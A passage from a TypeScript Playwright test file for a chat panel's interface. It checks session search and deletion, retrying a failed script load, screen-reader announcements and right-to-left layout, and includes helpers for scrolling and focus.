			await chat.page.getByRole('combobox', { name: 'Search sessions' }).fill('date');
			await chat.page.keyboard.press('Enter');
			await chat.page.getByRole('combobox', { name: 'Search sessions' }).fill('');
			await chat.page.getByRole('listbox').focus();
			await chat.page.keyboard.press('End');
			await chat.page.keyboard.press('Delete');
			assert.deepEqual(await chat.takePosted(), [
				{ type: 'openSession', sessionId: 's4' },
				{ type: 'deleteSession', sessionId: 's5' },
			]);
			await chat.page.getByRole('combobox', { name: 'Search sessions' }).fill('nothing like it');
			await chat.page.getByRole('button', { name: 'Clear search' }).click();
			assert.equal(await chat.page.getByRole('option').count(), 5);
		});
	});

	it('says when a part of it cannot be loaded, and loads it on demand', async () => {
		const chat = await open([snapshotOf([])]);
		const part = /\/sessionList-.*\.js$/;
		await chat.page.route(part, route => route.abort());
		await chat.page.evaluate(message => postMessage(message, '*'), panelStates['sessions']?.[0]);
		const retry = chat.page.getByRole('button', { name: 'Try again' });
		await retry.waitFor();
		assert.deepEqual(
			(await chat.takePosted()).map(({ type }) => type),
			['pageError'],
		);
		assert.match(chat.complaints.splice(0).join(), /net::ERR_FAILED/);
		await chat.page.unroute(part);
		await retry.click();
		await chat.page.getByRole('combobox', { name: 'Search sessions' }).waitFor();
	});

	it('reads out what the host announces, and the same words again', async () => {
		const chat = await open([snapshotOf(conversation(2))]);
		await chat.send({ type: 'announce', text: 'Edit parse.ts?', isUrgent: true });
		const first = await chat.page.getByRole('alert').locator('p').elementHandle();
		await chat.send({ type: 'announce', text: 'Edit parse.ts?', isUrgent: true });
		assert.equal(await chat.page.getByRole('alert').textContent(), 'Edit parse.ts?');
		assert.equal(await first?.evaluate(element => element.isConnected), false);
		assert.equal(await chat.page.getByRole('log').getAttribute('aria-live'), 'off');
	});

	it('mirrors itself for right-to-left languages without anything wider than the view', async () => {
		const chat = await open(panelStates['done'] ?? [], { direction: 'rtl', width: 300 });
		const back = await chat.page.getByRole('button', { name: 'All sessions' }).boundingBox();
		assert.ok(back !== null && back.x > 150);
		assert.equal(await chat.page.evaluate(() => document.documentElement.scrollWidth), 300);
	});
});

function distanceFromEnd(chat: ChatPage): Promise<number> {
	return chat.page
		.locator('.scroller')
		.evaluate(element => element.scrollHeight - element.scrollTop - element.clientHeight);
}

/** Scrolls as a user does and waits until the page has taken notice. */
async function scrollBy(chat: ChatPage, pixels: number): Promise<void> {
	await chat.page.locator('.scroller').evaluate(
		(element, by) =>
			new Promise<void>(resolve => {
				element.addEventListener('scroll', () => requestAnimationFrame(() => resolve()), { once: true });
				element.scrollTop += by;
			}),
		pixels,
	);
}

/** The entry at the top edge of the transcript, and where its top is. */
function topEntry(chat: ChatPage): Promise<{ readonly id: string | null; readonly offset: number }> {
	return chat.page.locator('.scroller').evaluate(scroller => {
		const top = scroller.getBoundingClientRect().top;
		const entry = [...scroller.querySelectorAll('[data-entry]')].find(one => one.getBoundingClientRect().bottom > top);
		return {
			id: entry?.getAttribute('data-entry') ?? null,
			offset: (entry?.getBoundingClientRect().top ?? 0) - top,
		};
	});
}

/** Whether an element lies within the view and within the card it is part of. */
function isWhollySeen(chat: ChatPage, selector: string): Promise<boolean> {
	return chat.page
		.locator(selector)
		.first()
		.evaluate(element => {
			const { top, bottom } = element.getBoundingClientRect();
			const card = element.closest('.approval')?.getBoundingClientRect();
			return card !== undefined && top >= card.top && bottom <= card.bottom + 0.5 && bottom <= innerHeight;
		});
}

function focusedName(chat: ChatPage): Promise<string> {
	return chat.page.evaluate(
		() => document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.textContent?.trim() ?? '',
	);
}
